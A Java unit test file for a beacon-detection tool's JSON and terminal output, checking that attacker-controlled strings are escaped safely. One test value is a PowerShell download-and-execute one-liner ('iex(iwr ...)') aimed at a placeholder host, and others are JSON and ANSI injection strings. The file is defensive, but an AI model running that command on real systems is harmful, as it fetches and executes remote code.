package dev.cronhound.cli.sink;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.cronhound.core.finding.Finding;
import dev.cronhound.core.finding.ScorePart;
import dev.cronhound.core.finding.Severity;
import java.util.List;
import org.junit.jupiter.api.Test;

class FindingJsonTest {

  static Finding finding(String domain, String title) {
    return new Finding(
        "BEACON",
        List.of("T1029", "T1020"),
        title,
        0.876543,
        Severity.HIGH,
        "10.0.0.5",
        new Finding.Source("10.0.0.5"),
        new Finding.Destination("203.0.113.9", domain, 443, "tls_sni", List.of("203.0.113.9"), null),
        null,
        1_767_571_200_123_456L,
        1_767_657_600_000_000L,
        288,
        300.0004,
        0.123456,
        123456,
        -1,
        List.of(new ScorePart("dispersion", 0.75, 0.3, "MAD of intervals is 12.5% of their median"),
            ScorePart.notApplicable("time_of_day", "period under 3600 s"),
            ScorePart.multiplier("prevalence", 1, "1 of 12 hosts talk to this destination")),
        new Finding.Evidence(List.of(1_767_571_200_123_456L), List.of(299.5), 288, 290, 0.01, "every 5m (jitter 12%)",
            List.of("conn.log:7"), List.of()),
        List.of(new Finding.Silencer("DestIPAllowlist", domain, "--allow-dest " + domain)),
        "outbound",
        0.876543);
  }

  @Test
  void writesTheContractFieldsInOrder() throws Exception {
    String line = FindingJson.line(finding("cdn.example", "t"));
    assertThat(line).doesNotContain("\n");
    assertThat(line).isEqualTo(
        "{\"analytic\":\"BEACON\",\"technique\":[\"T1029\",\"T1020\"],\"title\":\"t\",\"score\":0.8765,\"rhythm_score\":0.8765,\"severity\":\"high\","
            + "\"host\":\"10.0.0.5\",\"direction\":\"outbound\",\"source\":{\"ip\":\"10.0.0.5\"},\"destination\":{\"ip\":\"203.0.113.9\",\"domain\":\"cdn.example\","
            + "\"port\":443,\"named_by\":\"tls_sni\",\"addresses\":[\"203.0.113.9\"],\"via_proxy\":null},\"initiator\":null,"
            + "\"first_seen\":\"2026-01-05T00:00:00.123456Z\",\"last_seen\":\"2026-01-06T00:00:00Z\",\"count\":288,"
            + "\"period_seconds\":300,\"jitter\":0.1235,\"bytes_out\":123456,\"bytes_in\":null,"
            + "\"score_parts\":{\"dispersion\":{\"value\":0.75,\"weight\":0.3,\"role\":\"weighted\",\"note\":\"MAD of intervals is 12.5% of their median\"},"
            + "\"time_of_day\":{\"value\":0,\"weight\":0,\"role\":\"not_applicable\",\"note\":\"period under 3600 s\"},"
            + "\"prevalence\":{\"value\":1,\"weight\":0,\"role\":\"multiplier\",\"note\":\"1 of 12 hosts talk to this destination\"}},"
            + "\"evidence\":{\"timestamps\":[\"2026-01-05T00:00:00.123456Z\"],\"intervals_seconds\":[299.5],\"beats\":288,\"connections\":290,"
            + "\"missing_fraction\":0.01,\"schedule\":\"every 5m (jitter 12%)\",\"log_refs\":[\"conn.log:7\"],\"notes\":[]},"
            + "\"silence_with\":[{\"tunable\":\"DestIPAllowlist\",\"entry\":\"cdn.example\",\"how\":\"--allow-dest cdn.example\"}]}");
  }

  @Test
  void attackerControlledStringsCannotBreakTheLine() throws Exception {
    String evil = "x\"}\n{\"analytic\":\"FAKE\u2028\u0000\u001b[31m<script>é";
    String line = FindingJson.line(finding(evil, evil));
    assertThat(line).doesNotContain("\n", "\r", "\u2028", "\u0000", "\u001b").matches("\\p{ASCII}*");
    JsonNode n = new ObjectMapper().readTree(line);
    assertThat(n.get("analytic").asText()).isEqualTo("BEACON");
    assertThat(n.get("destination").get("domain").asText()).isEqualTo(evil);
    assertThat(n.get("title").asText()).isEqualTo(evil);
  }

  @Test
  void theInitiatorCarriesTaskProcessAndParentsAndEscapesTheirText() throws Exception {
    String evil = "powershell.exe -c \"iex(iwr http://x/a)\"\n{\"analytic\":\"FAKE\"}\u2028";
    Finding base = finding("cdn.example", "t");
    Finding f = new Finding("AN1118", base.technique(), base.title(), base.score(), base.severity(), "WS02",
        base.source(), base.destination(),
        new Finding.Initiator("\\Microsoft\\Windows\\CacheSync", "TaskScheduler 129 (pid 4312)",
            "time from 2026-01-05T00:00:00, every 1h", "CORP\\bob", null, "C:\\ps.exe", evil, "CORP\\bob",
            "Medium", List.of("[C:\\Windows\\System32\\services.exe]", "svchost.exe -k netsvcs -p -s Schedule")),
        base.firstSeenMicros(), base.lastSeenMicros(), base.count(), base.periodSeconds(), base.jitter(),
        base.bytesOut(), base.bytesIn(), base.scoreParts(), base.evidence(), base.silenceWith(),
        base.direction(), base.rhythmScore());
    String line = FindingJson.line(f);

    assertThat(line).doesNotContain("\n", "\u2028").contains(
        "\"initiator\":{\"job\":\"\\\\Microsoft\\\\Windows\\\\CacheSync\",\"linked_by\":\"TaskScheduler 129 (pid 4312)\","
            + "\"trigger\":\"time from 2026-01-05T00:00:00, every 1h\",\"job_author\":\"CORP\\\\bob\",\"run_as\":null,"
            + "\"image\":\"C:\\\\ps.exe\",\"command_line\":");
    JsonNode i = new ObjectMapper().readTree(line).get("initiator");
    assertThat(i.get("command_line").asText()).isEqualTo(evil);
    assertThat(i.get("integrity_level").asText()).isEqualTo("Medium");
    assertThat(i.get("parent_chain")).extracting(JsonNode::asText)
        .containsExactly("[C:\\Windows\\System32\\services.exe]", "svchost.exe -k netsvcs -p -s Schedule");
  }

  @Test
  void terminalTextShowsControlCharactersInsteadOfObeyingThem() {
    assertThat(TerminalText.safe("evil\u001b[2J\rname", 40)).isEqualTo("evil\\x1b[2J\\x0dname");
    assertThat(TerminalText.safe("abcdefghij", 5)).isEqualTo("abcd…");
    assertThat(TerminalText.safe(null, 5)).isEqualTo("-");
  }
}
